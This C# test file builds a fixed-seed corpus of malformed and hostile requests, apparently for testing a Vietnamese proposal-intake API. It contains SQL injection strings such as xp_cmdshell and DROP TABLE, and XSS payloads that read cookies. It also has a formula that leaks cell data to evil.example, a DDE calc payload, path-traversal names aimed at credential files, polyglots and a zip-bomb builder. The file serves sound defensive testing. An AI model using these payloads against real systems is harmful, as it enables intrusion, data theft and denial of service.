using System.IO.Compression;
using System.Net.Http.Headers;
using System.Text;
using Proposals.Domain.Documents;
using Proposals.Domain.Validation;

namespace Proposals.Testing;

/// <summary>One generated request: what it is, whether intake must accept it, and how to make its body.</summary>
/// <param name="Kind">The family of abuse it belongs to, for the printed figures.</param>
/// <param name="MustBeAccepted">Hostile-looking but valid text (SQL, HTML, formulas, NFD): stored literally.</param>
/// <param name="Body">A fresh body each call (an <see cref="HttpContent"/> is sent once).</param>
/// <param name="Fields">For accepted ones, the text fields as sent.</param>
public sealed record CorpusRequest(
    string Kind, bool MustBeAccepted, Func<HttpContent> Body, IReadOnlyDictionary<string, string>? Fields = null,
    string? IdempotencyKey = null, string? CallId = null);

/// <summary>
/// A deterministic (fixed seed) corpus of malformed and hostile intake requests: broken multipart,
/// wrong content types, huge fields, invalid UTF-8, NFD and mixed scripts, path-traversal names,
/// polyglots, zip bombs, wrong tax codes, missing files, duplicate fields, and SQL/HTML/formula text.
/// </summary>
public static class MalformedRequestCorpus
{
    public const int Seed = 20_261_127;

    private static readonly string[] TextFields = ["enterpriseName", "address", "legalRepresentative", "contactName", "taskName", "objectives", "urgency", "contentsAndResults", "application", "expectedBenefits"];
    private static readonly string[] StrictFields = ["taxCode", "contactEmail", "contactPhone", "employees", "annualRevenueVnd", "vsicCode", "vsicSection", "durationMonths", "startMonth", "priorityArea", "taskType"];
    private static readonly string[] RequiredFields = ["enterpriseName", "taxCode", "address", "province", "legalRepresentative", "contactName", "contactEmail", "contactPhone", "vsicSection", "vsicCode", "employees", "taskName", "taskType", "priorityArea", "objectives", "durationMonths", "startMonth"];

    private static readonly string[] SqlPayloads = ["Robert'); DROP TABLE Submissions;--", "' OR '1'='1", "1; DELETE FROM IntakeKeys WHERE 1=1", "\" UNION SELECT password FROM users --", "admin'--", "'; EXEC xp_cmdshell('dir'); --"];
    private static readonly string[] HtmlPayloads = ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(document.cookie)>", "<a href=\"javascript:alert(1)\">bấm</a>", "</textarea><b>đậm</b>", "&lt;b&gt; &amp; <iframe src=//evil>"];
    private static readonly string[] FormulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")", "+1", "-1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "=1+1", "+84 904 577 972"];
    private static readonly string[] MixedScriptPayloads = ["Công ty Сибирь 株式会社 Hải Phòng", "Ελληνικά và Tiếng Việt", "Doanh nghiệp العربية", "Công ty TNHH Bình Аn (Cyrillic А)", "企业 Đông Á"];
    private static readonly string[] TraversalNames = ["../../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "%2e%2e%2f%2e%2e%2fappsettings.json", "/etc/shadow", "....//....//x.php", "x.pdf/../../run.sh", "scan.pdf%00.exe", "C:\\Windows\\win.ini", "..%c0%af..%c0%afboot.ini", "phieu.docx\\..\\..\\web.config", "~/.ssh/id_rsa", "\\\\server\\share\\x.bat"];

    public static IReadOnlyList<CorpusRequest> Generate(string callId)
    {
        var random = new Random(Seed);
        var requests = new List<CorpusRequest>();
        var bombs = new[] { DeflateBomb(), ManyPartsBomb() };
        var pdf = SampleDocuments.Pdf();
        var docx = SampleDocuments.Docx();

        void Add(string kind, int count, Func<int, CorpusRequest> make)
        {
            for (var i = 0; i < count; i++)
            {
                requests.Add(make(i) with { Kind = kind });
            }
        }

        CorpusRequest Refused(Func<HttpContent> body) => new(string.Empty, false, body);
        CorpusRequest RefusedParts(Action<Dictionary<string, string>> change, byte[]? scan = null, byte[]? form = null, string? scanName = null, string? formName = null)
        {
            var fields = SampleProposal.Fields(change);
            return Refused(() => SampleProposal.Multipart(fields, scan ?? pdf, form ?? docx, scanName ?? "ban-quet.pdf", formName ?? "phieu.docx"));
        }

        // Valid submissions whose text is hostile or unusual: must be accepted and stored as sent.
        CorpusRequest Accepted(string[] payloads, int i, Func<string, string>? shape = null)
        {
            var fields = SampleProposal.Fields();
            var count = 1 + random.Next(3);
            for (var n = 0; n < count; n++)
            {
                var field = TextFields[random.Next(TextFields.Length)];
                var payload = payloads[(i + n) % payloads.Length];
                fields[field] = shape is null ? payload : shape(payload);
            }

            return new(string.Empty, true, () => SampleProposal.Multipart(fields, pdf, docx), fields);
        }

        Add("sql-text (valid)", 25, i => Accepted(SqlPayloads, i));
        Add("html-text (valid)", 25, i => Accepted(HtmlPayloads, i));
        Add("formula-text (valid)", 25, i => Accepted(FormulaPayloads, i));
        Add("nfd-text (valid)", 20, i => Accepted(["Công ty Cổ phần Thép Việt Ý", "Nguyễn Thị Hường", "Đề tài nâng cao năng suất ở Hải Phòng", "Quận Lê Chân, thành phố Hải Phòng"], i, p => p.Normalize(NormalizationForm.FormD)));
        Add("mixed-scripts (valid)", 15, i => Accepted(MixedScriptPayloads, i));

        var valid = SampleProposal.Multipart(SampleProposal.Fields(), pdf, docx);
        var validBytes = valid.ReadAsByteArrayAsync().GetAwaiter().GetResult();
        var validType = valid.Headers.ContentType!.ToString();
        var boundary = valid.Headers.ContentType.Parameters.Single(p => p.Name == "boundary").Value!.Trim('"');
        Add("broken-multipart", 100, i =>
        {
            var (bytes, type) = (i % 5) switch
            {
                0 => (validBytes.AsSpan(0, random.Next(1, validBytes.Length - boundary.Length - 8)).ToArray(), validType),
                1 => (validBytes, "multipart/form-data; boundary=x" + random.Next(1_000_000)),
                2 => (RandomBytes(random, 16 + random.Next(4096)), validType),
                3 => (Encoding.ASCII.GetBytes($"--{boundary}\r\nContent-Disposition: form-data\r\n\r\nno name\r\n--{boundary}--\r\n"), validType),
                _ => (Encoding.ASCII.GetBytes($"--{boundary}\r\n{new string('X', random.Next(20_000, 40_000))}: y\r\n\r\nv\r\n--{boundary}--\r\n"), validType),
            };
            return Refused(() => Raw(bytes, type));
        });

        var urlEncoded = string.Join('&', SampleProposal.Fields().Select(f => Uri.EscapeDataString(f.Key) + "=" + Uri.EscapeDataString(f.Value)));
        string?[] wrongTypes = ["application/json", "text/plain", "application/x-www-form-urlencoded", "application/xml", null, "multipart/mixed; boundary=" + boundary, "multipart/form-data", "multipart/form-data; boundary=\"\"", "multipart/form-data; boundary=" + new string('b', 200), "image/png"];
        Add("wrong-content-type", 60, i => Refused(() => Raw(Encoding.UTF8.GetBytes(i % 2 == 0 ? urlEncoded : "{\"taxCode\":\"0100233488\"}"), wrongTypes[i % wrongTypes.Length])));

        Add("huge-field", 80, i => (i % 4) switch
        {
            0 => RefusedParts(f => f[TextFields[random.Next(TextFields.Length)]] = new string('x', 4001 + random.Next(60_000))),
            1 => RefusedParts(f => f[TextFields[random.Next(TextFields.Length)]] = new string('ư', 70_000 + random.Next(200_000))),
            2 => RefusedParts(f => { for (var n = 0; n < 70; n++) f["extra" + n] = "x"; }),
            _ => RefusedParts(f => f[new string('k', 101 + random.Next(1000))] = "x"),
        });

        Add("invalid-utf8", 60, i =>
        {
            byte[][] broken = [[0xC3, 0x28], [0xFF, 0xFE], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xE2, 0x82], [0xF8, 0x88, 0x80, 0x80, 0x80]];
            var field = RequiredFields[random.Next(RequiredFields.Length)];
            var bytes = Encoding.UTF8.GetBytes("Công ty ").Concat(broken[i % broken.Length]).Concat("Hải Phòng"u8.ToArray()).ToArray();
            return Refused(() => ReplacingField(SampleProposal.Fields(), field, bytes, pdf, docx));
        });

        var wrongValues = new Dictionary<string, string[]>
        {
            ["taxCode"] = ["abc", "-5", "NaN", "", "12"],
            ["contactEmail"] = ["abc", "a@", "@b.vn", "a b@c.vn", ""],
            ["contactPhone"] = ["abc", "12345", "+1 555 0100", ""],
            ["employees"] = ["abc", "-5", "1e9", "NaN", "٣٤", "０１２"],
            ["annualRevenueVnd"] = ["abc", "-5", "1e9", "NaN", "٣٤", "45,5", "45.5"],
            ["vsicCode"] = ["abc", "1", "123456", "", "9999", "2698"],
            ["vsicSection"] = ["Z", "1", "AB", ""],
            ["durationMonths"] = ["0", "100", "abc", "-1", ""],
            ["startMonth"] = ["2024-13", "2020-01", "abc", "13/2024", ""],
            ["priorityArea"] = ["9", "0", "abc", ""],
            ["taskType"] = ["hack", "Research", "1", ""],
        };
        Add("wrong-types", 80, i => RefusedParts(f =>
        {
            var field = StrictFields[random.Next(StrictFields.Length)];
            f[field] = wrongValues[field][i % wrongValues[field].Length];
        }));

        string[] scriptTaxCodes = ["０１００２３３４８８", "٠١٠٠٢٣٣٤٨٨", "०१००२३३४८८", "01OO233488", "О100233488"];
        Add("mixed-scripts-in-codes", 40, i => RefusedParts(f =>
        {
            switch (i % 3)
            {
                case 0: f["taxCode"] = scriptTaxCodes[i % scriptTaxCodes.Length]; break;
                case 1: f["contactPhone"] = "０９０４ ５７７ ９７２"; break;
                default: f["employees"] = "٨٥"; break;
            }
        }));

        Add("path-traversal-filename", 60, i => i % 2 == 0
            ? RefusedParts(_ => { }, scanName: TraversalNames[i % TraversalNames.Length])
            : RefusedParts(_ => { }, formName: TraversalNames[i % TraversalNames.Length]));

        var pdfZip = pdf.Concat(docx).ToArray();
        var zipPdf = docx.Concat(pdf).ToArray();
        var docxWithPdfHeader = "%PDF-1.7\n"u8.ToArray().Concat(docx).ToArray();
        byte[][] badScans = [docx, zipPdf, "GIF89a"u8.ToArray().Concat(pdf).ToArray(), [0xFF, 0xD8, 0xFF, 0xE0, .. pdf], " %PDF-1.4\n"u8.ToArray().Concat(pdf).ToArray(), Encoding.UTF8.GetBytes("<html><script>alert(1)</script></html>%PDF-")];
        byte[][] badForms = [pdfZip, docxWithPdfHeader, pdf, Encoding.UTF8.GetBytes("{\\rtf1 not a docx}"), [0x4D, 0x5A, 0x90, 0x00, .. docx]];
        Add("polyglot", 80, i => i % 2 == 0
            ? RefusedParts(_ => { }, scan: badScans[i / 2 % badScans.Length])
            : RefusedParts(_ => { }, form: badForms[i / 2 % badForms.Length]));

        Add("zip-bomb", 40, i => RefusedParts(f => f["taskName"] += " " + i, form: bombs[i % bombs.Length]));

        Add("wrong-tax-code", 120, i => RefusedParts(f => f["taxCode"] = WrongTaxCode(random, i)));

        Add("missing-file", 60, i =>
        {
            var fields = SampleProposal.Fields();
            return Refused(() =>
            {
                var content = new MultipartFormDataContent();
                foreach (var (key, value) in fields)
                {
                    content.Add(new StringContent(value), key);
                }

                switch (i % 5)
                {
                    case 0: content.Add(new ByteArrayContent(pdf), "signedScan", "a.pdf"); break;
                    case 1: content.Add(new ByteArrayContent(docx), "editableForm", "a.docx"); break;
                    case 2: content.Add(new ByteArrayContent([]), "signedScan", "a.pdf"); content.Add(new ByteArrayContent(docx), "editableForm", "a.docx"); break;
                    case 3: content.Add(new ByteArrayContent(pdf), "SignedScan", "a.pdf"); content.Add(new ByteArrayContent(docx), "editableform", "a.docx"); break;
                    default: content.Add(new StringContent("%PDF-1.4"), "signedScan"); content.Add(new StringContent("PK"), "editableForm"); break;
                }

                return content;
            });
        });

        Add("duplicate-field", 60, i =>
        {
            var fields = SampleProposal.Fields();
            var duplicated = RequiredFields[random.Next(RequiredFields.Length)];
            return Refused(() =>
            {
                var content = SampleProposal.Multipart(fields, pdf, docx);
                switch (i % 3)
                {
                    case 0: content.Add(new StringContent(fields[duplicated]), duplicated); break;
                    case 1: content.Add(new StringContent("khác"), duplicated); break;
                    default: content.Add(new ByteArrayContent(pdf), "signedScan", "hai.pdf"); break;
                }

                return content;
            });
        });

        Add("missing-field", 60, i => RefusedParts(f =>
        {
            for (var n = 0; n <= i % 3; n++)
            {
                f.Remove(RequiredFields[random.Next(RequiredFields.Length)]);
            }
        }));

        string[][] injections = [SqlPayloads, HtmlPayloads, [FormulaPayloads[0], FormulaPayloads[3], FormulaPayloads[4]]];
        Add("injection-in-strict-fields", 60, i => RefusedParts(f =>
            f[StrictFields[random.Next(StrictFields.Length)]] = injections[i % injections.Length][i % injections[i % injections.Length].Length]));

        Add("honeypot", 20, i => RefusedParts(f => f["website"] = HtmlPayloads[i % HtmlPayloads.Length]));

        Add("bad-idempotency-key", 20, i =>
        {
            var fields = SampleProposal.Fields();
            return new(string.Empty, false, () => SampleProposal.Multipart(fields, pdf, docx),
                IdempotencyKey: i % 2 == 0 ? new string('k', 201 + i) : "key with spaces " + i);
        });

        Add("unknown-call", 20, i => RefusedParts(_ => { }) with { CallId = callId + "-x" + i });

        return requests;
    }

    private static ByteArrayContent Raw(byte[] bytes, string? contentType)
    {
        var content = new ByteArrayContent(bytes);
        if (contentType is not null)
        {
            content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        }

        return content;
    }

    private static MultipartFormDataContent ReplacingField(Dictionary<string, string> fields, string field, byte[] bytes, byte[] pdf, byte[] docx)
    {
        fields.Remove(field);
        var content = SampleProposal.Multipart(fields, pdf, docx);
        var part = new ByteArrayContent(bytes);
        part.Headers.ContentDisposition = new ContentDispositionHeaderValue("form-data") { Name = $"\"{field}\"" };
        content.Add(part);
        return content;
    }

    private static byte[] RandomBytes(Random random, int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    private static string WrongTaxCode(Random random, int i)
    {
        while (true)
        {
            var candidate = (i % 6) switch
            {
                0 => random.NextInt64(1_000_000_000, 9_999_999_999).ToString(System.Globalization.CultureInfo.InvariantCulture),
                1 => random.Next(10_000_000, 999_999_999).ToString(System.Globalization.CultureInfo.InvariantCulture),
                2 => random.NextInt64(10_000_000_000, 99_999_999_999).ToString(System.Globalization.CultureInfo.InvariantCulture),
                3 => "0100233488-" + random.Next(0, 10_000).ToString("D4", System.Globalization.CultureInfo.InvariantCulture),
                4 => "MST" + random.Next(1_000_000, 9_999_999).ToString(System.Globalization.CultureInfo.InvariantCulture),
                _ => "0100233488-00" + (char)('A' + random.Next(26)),
            };
            if (!TaxCode.TryParse(candidate, out _, out _))
            {
                return candidate;
            }
        }
    }

    /// <summary>A DOCX-looking ZIP that inflates to 80 MB of zeros (about 80 KB on the wire).</summary>
    private static byte[] DeflateBomb()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var writer = new StreamWriter(zip.CreateEntry("word/document.xml").Open()))
            {
                writer.Write("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>");
            }

            using var stream = zip.CreateEntry("word/media/zeros.bin", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 80; i++)
            {
                stream.Write(zeros);
            }
        }

        return buffer.ToArray();
    }

    /// <summary>A ZIP with more parts than any Word document has.</summary>
    private static byte[] ManyPartsBomb()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            zip.CreateEntry("word/document.xml");
            for (var i = 0; i < DocumentChecks.MaxDocxEntries + 5; i++)
            {
                zip.CreateEntry($"word/p{i}.xml");
            }
        }

        return buffer.ToArray();
    }
}
